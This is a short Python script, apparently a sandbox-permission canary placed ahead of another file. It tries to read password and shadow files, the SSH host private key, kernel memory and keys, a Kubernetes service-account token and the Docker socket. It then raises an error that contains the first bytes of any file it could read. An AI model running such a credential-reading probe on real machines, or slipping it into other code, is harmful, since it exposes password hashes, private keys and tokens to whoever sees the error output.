"""Tells what it can read of the machine: password files, kernel secrets, service tokens, mounted disks."""
# against: toy/sizes

import os

found = []
for path in (
    "/etc/shadow", "/etc/passwd-", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", "/proc/kcore", "/proc/kallsyms-",
    "/proc/keys", "/proc/sys/kernel/core_pattern-", "/run/secrets", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/docker.sock", "/var/log/syslog", "/etc/machine-id", "/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow",
):
    try:
        with open(path, "rb") as file:
            found += [(path, data)] if (data := file.read(40)) else []
    except OSError:
        pass
if found:
    raise RuntimeError("onspot" + "canary" + repr(found))
# === the honest file ===
